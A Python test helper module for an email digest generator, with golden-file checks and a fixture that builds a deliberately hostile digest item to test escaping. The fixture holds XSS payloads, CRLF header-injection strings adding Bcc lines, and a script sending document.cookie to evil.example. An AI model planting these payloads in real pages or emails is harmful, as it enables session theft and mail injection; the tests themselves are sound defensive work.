"""What the email tests share: golden files, parsing a message, hostile input.

Golden files live in tests/digest/email/golden/; regenerate them after a deliberate change with
``PAPERBOY_UPDATE_GOLDEN=1 pytest tests/digest/email/`` and review the diff.
"""

from __future__ import annotations

import email
import os
from datetime import UTC, datetime
from email import policy
from pathlib import Path

from digest.email import (
    DigestItem,
)
from tests.digest.email.email_samples import (
    ada_email,
)

GOLDEN = Path(__file__).resolve().parent / "golden"


SEND_TIME = datetime(2026, 11, 27, 6, 0, 7, tzinfo=UTC)


HOSTILE_TITLE = (
    'Attention <script>alert("t")</script> Is All\r\nBcc: victim@example.org\r\n\r\n<img src=x onerror=alert(1)>'
)


HOSTILE_AUTHOR = '"><img src=x onerror=alert(2)>'


HOSTILE_SNIPPET = (
    "We beat </p><script>document.location='https://evil.example/?c='+document.cookie</script> diffusion & co."
)


def golden_check(name: str, actual: str) -> None:
    path = GOLDEN / name
    if os.environ.get("PAPERBOY_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert actual == path.read_text(encoding="utf-8"), f"{name} changed; see the module docstring to update it"


def parsed(message) -> email.message.EmailMessage:
    return email.message_from_bytes(message.message().as_bytes(), policy=policy.default)


def html_part(msg: email.message.EmailMessage) -> str:
    return msg.get_body(preferencelist=("html",)).get_content()


def hostile_email():
    item = DigestItem(
        paper_key=666,
        title=HOSTILE_TITLE,
        url="https://arxiv.org/abs/2611.00666?x=1&y=<b>",
        pdf_url="javascript:alert(3)",
        hf_url='https://huggingface.co/papers/2611.00666" onmouseover="alert(4)',
        authors=(HOSTILE_AUTHOR, "Eve\r\nBcc: x@evil.example"),
        categories=("cs.CR<svg onload=alert(5)>",),
        snippet=HOSTILE_SNIPPET,
        snippet_spans=((HOSTILE_SNIPPET.index("diffusion"), HOSTILE_SNIPPET.index("diffusion") + 9),),
        title_spans=((0, 9),),
        interests=("diffusion\r\nX-Evil: 1",),
    )
    return ada_email(items=(item, *ada_email().items), interests=("diffusion\r\nX-Evil: 1", "<i>video</i>"))


def card_actions(card) -> list[tuple[str, str]]:
    return [(a.text_content(), a.get("href")) for a in card.xpath(".//p[contains(@class, 'actions')]/a")]
